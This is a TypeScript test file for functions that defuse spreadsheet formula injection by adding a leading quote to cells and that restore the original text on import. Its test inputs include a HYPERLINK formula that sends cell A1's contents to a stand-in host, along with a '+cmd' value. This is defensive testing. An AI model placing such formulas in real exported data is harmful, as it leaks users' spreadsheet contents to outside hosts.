import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { neutraliseFormula, restoreFormula } from '../../src/model/spreadsheet-formulas.js';
import { SEED } from '../property/arbitraries.js';

describe('cells a spreadsheet would evaluate', () => {
  it('get a leading quote when they start with =, +, -, @, a tab or a carriage return', () => {
    expect(neutraliseFormula('=HYPERLINK("https://example.com/?"&A1,"Öppna")')).toBe('\'=HYPERLINK("https://example.com/?"&A1,"Öppna")');
    expect(neutraliseFormula('=1+1')).toBe("'=1+1");
    expect(neutraliseFormula('+cmd')).toBe("'+cmd");
    expect(neutraliseFormula('-5 minuter')).toBe("'-5 minuter");
    expect(neutraliseFormula('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(neutraliseFormula('\t=1+1')).toBe("'\t=1+1");
    expect(neutraliseFormula('\r=1+1')).toBe("'\r=1+1");
  });

  it('leave every other cell as it is, a quote before plain text included', () => {
    for (const text of ['', 'Färja i tid', 'a=b', ' =1+1', "'til", "'", '0012', '1/2', 'åäö-lista']) expect(neutraliseFormula(text)).toBe(text);
  });

  it('get one quote more when they already start with quotes before a formula, so that the quote hypo adds is always one', () => {
    expect(neutraliseFormula("'=1+1")).toBe("''=1+1");
    expect(neutraliseFormula("''-x")).toBe("'''-x");
    expect(restoreFormula("''=1+1")).toBe("'=1+1");
  });

  it('come back as the exact text on import', () => {
    for (const text of ['=1+1', '+cmd', '-x', '@x', '\tx', '\rx', "'=x", "''@x", "'til", "'", 'plain', ''])
      expect(restoreFormula(neutraliseFormula(text))).toBe(text);
  });

  it('come back as the exact text for any text', () => {
    const start = fc.constantFrom('', "'", "''", '=', '+', '-', '@', '\t', '\r', 'å', ' ');
    const texts = fc.tuple(start, start, fc.string({ maxLength: 6 })).map((parts) => parts.join(''));
    fc.assert(
      fc.property(texts, (text) => {
        expect(restoreFormula(neutraliseFormula(text))).toBe(text);
        expect(neutraliseFormula(text)).not.toMatch(/^[=+\-@\t\r]/);
      }),
      { seed: SEED, numRuns: 200 },
    );
  });
});
